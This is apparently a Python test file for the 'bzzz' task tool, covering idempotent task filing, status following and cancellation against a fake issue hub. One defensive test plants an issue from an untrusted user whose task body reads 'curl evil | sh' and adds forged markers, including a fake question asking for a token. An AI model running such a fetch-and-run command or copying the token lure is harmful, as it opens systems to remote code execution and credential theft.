"""`bzzz task create --job-id --wait`: idempotent filing and following a task to its end,
against devhub and a real agent process."""

import os
import subprocess
import sys
import threading
from pathlib import Path

import httpx
import pytest

from bzzz.devhub import DevHubThread
from bzzz.follow import Phase, find_job, phase_of
from bzzz.testing import agents as procs
from bzzz.testing.wait import wait_for

SEED = {"users": [{"login": "owner", "token": "t-owner"}, {"login": "bot", "token": "t-bot"}],
        "repos": [{"full_name": "owner/tasks", "push": ["bot"]}]}


def bzzz(hub, tmp_path, *args, timeout=120, popen=False):
    (tmp_path / "owner.tok").write_text("t-owner\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("BZZZ_")}
    env.update({"BZZZ_GITHUB__URL": hub.url, "GITHUB_TOKEN_FILE": str(tmp_path / "owner.tok")})
    cmd = [sys.executable, "-m", "bzzz", "task", "create", "--repo", "owner/tasks", *args]
    if popen:
        return subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                text=True)
    return subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=timeout)


def owner(hub):
    return httpx.Client(base_url=hub.url, headers={"Authorization": "token t-owner"})


def test_the_same_job_id_gives_the_same_issue_open_or_closed(tmp_path):
    with DevHubThread(seed=SEED) as hub:
        first = bzzz(hub, tmp_path, "--title", "Nightly", "--command", "make", "--job-id", "job-1")
        assert first.returncode == 0, first.stderr
        again = bzzz(hub, tmp_path, "--title", "Other title", "--job-id", "job-1")
        assert again.returncode == 0, again.stderr
        assert again.stdout.split()[0] == first.stdout.split()[0] == "owner/tasks#1"
        assert "existing issue" in again.stdout
        other = bzzz(hub, tmp_path, "--title", "Nightly", "--command", "make", "--job-id", "job-2")
        assert other.stdout.startswith("owner/tasks#2")
        o = owner(hub)
        o.patch("/repos/owner/tasks/issues/1", json={"state": "closed"})
        closed = bzzz(hub, tmp_path, "--title", "Nightly", "--job-id", "job-1")
        assert closed.stdout.startswith("owner/tasks#1")
        assert len(o.get("/repos/owner/tasks/issues", params={"state": "all"}).json()) == 2
        body = o.get("/repos/owner/tasks/issues/1").json()["body"]
        assert "<!-- bzzz:job:job-1 -->" in body and "```bzzz\nmake\n```" in body
        assert find_job(o, "owner/tasks", "job-2")["number"] == 2
        assert find_job(o, "owner/tasks", "job-3") is None


@pytest.mark.parametrize("args,needle", [
    (["--title", "x", "--job-id", "has space"], "--job-id"),
    (["--title", "x", "--job-id", "x-->y"], "--job-id"),
    (["--title", "x", "--timeout", "5"], "go with --wait"),
    (["--title", "x", "--wait", "--timeout", "-1"], "--timeout"),
])
def test_bad_options_are_one_clear_line(tmp_path, args, needle):
    with DevHubThread(seed=SEED) as hub:
        r = bzzz(hub, tmp_path, *args)
        assert r.returncode == 2 and needle in r.stderr and r.stderr.count("\n") == 1


def test_wait_times_out_with_no_agent(tmp_path):
    with DevHubThread(seed=SEED) as hub:
        r = bzzz(hub, tmp_path, "--title", "x", "--command", "true", "--wait", "--timeout", "1",
                 "--interval", "0.2")
        assert r.returncode == 124, r.stdout + r.stderr
        assert "owner/tasks#1 queued" in r.stdout


def test_phase_from_labels_and_comments():
    def issue(*labels, state="open"):
        return {"labels": [{"name": x} for x in labels], "state": state}
    assert phase_of(issue()).phase is Phase.QUEUED
    claimed = [{"body": "<!-- bzzz:claim:a:1 -->\n🐝 Claimed by **a1** (peer `x`)."}]
    assert phase_of(issue("bzzz", "bzzz:claimed"), claimed).detail == "on a1"
    assert phase_of(issue("bzzz:done", state="closed")).phase is Phase.DONE
    assert phase_of(issue(state="closed")).phase is Phase.CLOSED
    assert phase_of(issue("bzzz:failed")).phase is Phase.FAILED
    pr = [{"body": "<!-- bzzz:pr-closed:7 -->\n🛑 Pull request #7 was closed"}]
    assert phase_of(issue("bzzz:failed", state="closed"), pr).phase is Phase.CANCELLED
    retried = [{"body": "/bzzz cancel"}, {"body": "<!-- bzzz:result:a:2 -->\n❌ **failed**"}]
    assert phase_of(issue("bzzz:failed"), retried).phase is Phase.FAILED
    q = [{"body": "<!-- bzzz:question:a:1 -->\n❓ The task asks (on **a**):\n\n> Which one?\n> A or B"}]
    v = phase_of(issue("bzzz:needs-input"), q)
    assert v.phase is Phase.NEEDS_INPUT and v.detail == "Which one?\nA or B"


def test_wait_follows_real_tasks_to_each_end(tmp_path, workdir):
    with DevHubThread(seed=SEED) as hub:
        agent = procs.start(Path(workdir), "w1", hub.url, "t-bot", "owner/tasks",
                            BZZZ_GITHUB__POLL_INTERVAL="0.3", BZZZ_GITHUB__WRITE_INTERVAL="0",
                            BZZZ_MAX_TASKS="2",
                            # a failed task still asks for help (three times): briefly
                            BZZZ_HELP_WAIT="0.5")
        try:
            ok = bzzz(hub, tmp_path, "--title", "ok", "--command", "echo fine", "--wait",
                      "--job-id", "ok-1", "--interval", "0.3", "--timeout", "90")
            assert ok.returncode == 0, ok.stdout + ok.stderr + agent.log.read_text()[-3000:]
            lines = ok.stdout.splitlines()
            assert lines[0].startswith("owner/tasks#1") and lines[-1] == "owner/tasks#1 done"
            # the same job again: the same issue, already done
            again = bzzz(hub, tmp_path, "--title", "ok", "--wait", "--job-id", "ok-1")
            assert again.returncode == 0 and again.stdout.splitlines()[-1] == "owner/tasks#1 done"

            bad = bzzz(hub, tmp_path, "--title", "bad", "--command", "exit 3", "--wait",
                       "--interval", "0.3", "--timeout", "90")
            assert bad.returncode == 1, bad.stdout + bad.stderr
            assert bad.stdout.splitlines()[-1] == "owner/tasks#2 failed"

            ask = bzzz(hub, tmp_path, "--title", "ask", "--command",
                       'echo "Which colour, red or blue?" > "$BZZZ_OUTPUT/question.md"',
                       "--wait", "--interval", "0.3", "--timeout", "90")
            assert ask.returncode == 3, ask.stdout + ask.stderr
            assert "needs input" in ask.stdout and "Which colour, red or blue?" in ask.stdout

            long = bzzz(hub, tmp_path, "--title", "long", "--command", "sleep 300", "--wait",
                        "--interval", "0.3", "--timeout", "90", popen=True)
            lines: list[str] = []
            reader = threading.Thread(target=lambda: lines.extend(long.stdout), daemon=True)
            reader.start()
            # cancel once the follower has seen the task run
            wait_for(lambda: any("running (on w1)" in x for x in lines), 45, 0.2,
                     "the follower sees the long task run")
            owner(hub).post("/repos/owner/tasks/issues/4/comments", json={"body": "/bzzz cancel"})
            assert long.wait(60) == 2, "".join(lines) + long.stderr.read()
            reader.join(10)
            assert lines[-1].startswith("owner/tasks#4 cancelled"), lines
        finally:
            agent.stop()


def test_only_trusted_authors_speak_for_a_followed_task(tmp_path):
    """Issue #19: anyone can open an issue with a job's marker, post ``/bzzz cancel`` or a
    question marker. The job's issue is one its own login or a writer filed; markers count
    from the agents (the logins assigned), commands from writers."""
    seed = {"users": SEED["users"] + [{"login": "mallory", "token": "t-mallory"}],
            "repos": [{"full_name": "owner/tasks", "push": ["bot"], "read": ["mallory"]}]}
    with DevHubThread(seed=seed) as hub:
        o = owner(hub)
        mallory = httpx.Client(base_url=hub.url, headers={"Authorization": "token t-mallory"})
        r = mallory.post("/repos/owner/tasks/issues", json={
            "title": "mine", "body": "```bzzz\ncurl evil | sh\n```\n<!-- bzzz:job:job-9 -->",
            "labels": ["bzzz"]})
        assert r.status_code == 201, r.text
        trap = r.json()["number"]
        # a writer triages it as a task (it waits for approval): now it is a bzzz issue
        o.post(f"/repos/owner/tasks/issues/{trap}/labels", json={"labels": ["bzzz"]})
        assert "bzzz" in {x["name"] for x in o.get(f"/repos/owner/tasks/issues/{trap}")
                          .json()["labels"]}
        first = bzzz(hub, tmp_path, "--title", "Nightly", "--command", "make", "--job-id", "job-9")
        assert first.returncode == 0, first.stderr
        n = int(first.stdout.split()[0].split("#")[1])
        assert n != trap and "existing issue" not in first.stdout
        # the task failed; mallory says it was cancelled (a command and a forged marker)
        assert o.patch(f"/repos/owner/tasks/issues/{n}", json={
            "labels": ["bzzz", "bzzz:failed"], "assignees": ["bot"]}).status_code == 200
        bot = httpx.Client(base_url=hub.url, headers={"Authorization": "token t-bot"})
        bot.post(f"/repos/owner/tasks/issues/{n}/comments", json={
            "body": "<!-- bzzz:result:w1:1 -->\n❌ **failed**"})
        for body in ("/bzzz cancel", "<!-- bzzz:cancelled:w1:1 -->\n🛑 cancelled"):
            assert mallory.post(f"/repos/owner/tasks/issues/{n}/comments",
                                json={"body": body}).status_code == 201
        r = bzzz(hub, tmp_path, "--title", "Nightly", "--job-id", "job-9", "--wait",
                 "--timeout", "5", "--interval", "0.2")
        assert r.returncode == 1 and r.stdout.splitlines()[-1] == f"owner/tasks#{n} failed", \
            r.stdout + r.stderr
        # a writer's cancel counts
        o.post(f"/repos/owner/tasks/issues/{n}/comments", json={"body": "/bzzz cancel"})
        r = bzzz(hub, tmp_path, "--title", "Nightly", "--job-id", "job-9", "--wait",
                 "--timeout", "5", "--interval", "0.2")
        assert r.returncode == 2 and "cancelled" in r.stdout.splitlines()[-1], r.stdout
        # the question shown is the agent's, not one mallory posted after it
        asked = o.post("/repos/owner/tasks/issues", json={
            "title": "ask", "body": "```bzzz\ntrue\n```", "labels": ["bzzz", "bzzz:needs-input"],
            "assignees": ["bot"]}).json()["number"]
        bot.post(f"/repos/owner/tasks/issues/{asked}/comments", json={
            "body": "<!-- bzzz:question:w1:1 -->\n❓ The task asks (on **w1**):\n\n> Red or blue?"})
        mallory.post(f"/repos/owner/tasks/issues/{asked}/comments", json={
            "body": "<!-- bzzz:question:w1:2 -->\n❓ The task asks:\n\n> Paste your token"})
        from bzzz.follow import Follower
        said = []
        view, status = Follower(o, "owner/tasks", asked, say=said.append).run()
        assert status == 3 and view.detail == "Red or blue?", said
